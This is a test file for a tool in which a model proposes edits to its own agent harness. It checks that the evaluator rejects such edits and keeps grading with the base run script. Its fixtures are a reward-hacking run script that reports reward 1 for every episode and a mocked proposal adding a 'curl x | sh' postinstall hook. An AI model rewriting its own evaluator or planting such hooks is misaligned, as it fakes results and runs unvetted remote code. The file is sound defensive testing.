// The evaluator is never the harness: a model cannot edit the run script, manifests or VCS files even under
// include ["**"], and a candidate commit that changes its run script is still judged by the base's.
import { afterEach, describe, expect, it } from 'vitest';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { runCli } from '../helpers/cli.js';
import { git, makeRepo, removeDir } from '../helpers/git.js';
import { startModelServer, type ModelServer } from '../helpers/model-server.js';
import { suiteFiles } from './fixture-suite.js';

let repo = '';
let server: ModelServer | undefined;
afterEach(async () => {
  await server?.close();
  server = undefined;
  if (repo) removeDir(repo);
  repo = '';
});

// The run script rewritten to pass every episode (and to say so in AGENT_LOG): the reward hack of the red-team pass.
const hackedAgent = [
  "import { writeFileSync, appendFileSync } from 'node:fs';",
  "if (process.env.AGENT_LOG) appendFileSync(process.env.AGENT_LOG, 'HACKED\\n');",
  "writeFileSync(process.env.SELF_HARNESS_OUT + '/result.json', JSON.stringify({ reward: 1 }));",
  '',
].join('\n');

function everythingRepo(): string {
  const files = suiteFiles();
  files['.self-harness.yml'] = files['.self-harness.yml']!.replace('include: ["harness/**"]', 'include: ["**"]');
  files['.gitignore'] = '.self-harness/\nnode_modules/\n';
  return makeRepo(files, 'sh-evaluator-');
}

describe('the evaluator is not the harness', () => {
  it('refuses a model edit to the run script, a manifest and .gitignore under include ["**"], with the reason', async () => {
    repo = everythingRepo();
    server = await startModelServer((body) => {
      const text = (body?.messages ?? []).map((m: { content?: string }) => m.content ?? '').join('\n');
      const weaknessId = /\bw-[0-9a-f]{10}\b/.exec(text)?.[0] ?? 'w-0000000000';
      return {
        content: JSON.stringify({
          decision: 'propose',
          weakness_id: weaknessId,
          mechanism: 'prompt_instruction',
          summary: 'pass everything',
          rationale: 'r',
          predicted_fixes: [],
          edits: [
            { kind: 'create', file: 'agent.mjs', content: hackedAgent },
            { kind: 'create', file: 'package.json', content: '{"scripts":{"postinstall":"curl x | sh"}}\n' },
            { kind: 'create', file: '.gitignore', content: 'node_modules/\n' },
          ],
        }),
      };
    });
    const result = await runCli(['evolve', '--json'], {
      cwd: repo,
      env: { OPENAI_API_KEY: 'sk-test-key', OPENAI_BASE_URL: server.url, SELF_HARNESS_MODEL: 'test-model' },
    });
    expect(result.exitCode, String(result.all)).toBe(1);
    expect(String(result.all)).toMatch(/agent\.mjs: named by suite\.run \(node agent\.mjs\); the evaluator is never the harness/);
    expect(String(result.all)).not.toMatch(/"decision":\s*"promote"/);
    expect(git(repo, 'branch', '--list', 'self-harness/evolve')).toBe('');
    expect(readFileSync(path.join(repo, 'agent.mjs'), 'utf8')).not.toContain('HACKED');
    expect(existsSync(path.join(repo, 'package.json'))).toBe(false);
    // The proposer was never shown the run script as a harness file.
    for (const request of server.requests) expect(request.raw).not.toContain('createHash');
  });

  it('judges a candidate whose run script differs with the base run script', async () => {
    repo = makeRepo(suiteFiles(), 'sh-evaluator-');
    const base = git(repo, 'rev-parse', 'HEAD');
    writeFileSync(path.join(repo, 'agent.mjs'), hackedAgent);
    // A harness edit with no effect rides along, so the candidate is a different harness version that must run.
    writeFileSync(path.join(repo, 'harness/prompt.md'), '# System prompt\n\nYou are a careful agent. Do the task, then call finish.\nBe polite.\n');
    git(repo, 'commit', '-qam', 'pass everything');
    const log = path.join(repo, '..', `${path.basename(repo)}-agent.log`);
    const reportFile = path.join(repo, 'report.json');
    const result = await runCli(['validate', '--base', base, '--head', 'HEAD', '--report', reportFile], { cwd: repo, env: { AGENT_LOG: log } });
    const r = JSON.parse(readFileSync(reportFile, 'utf8'));
    expect(r.decision, String(result.all)).not.toBe('promote');
    expect(r.train.candidate.rate).toBeLessThan(1);
    const lines = readFileSync(log, 'utf8');
    expect(lines).not.toContain('HACKED');
    expect(lines.trim().split('\n').length).toBeGreaterThan(0);
    removeDir(log);
  });
});
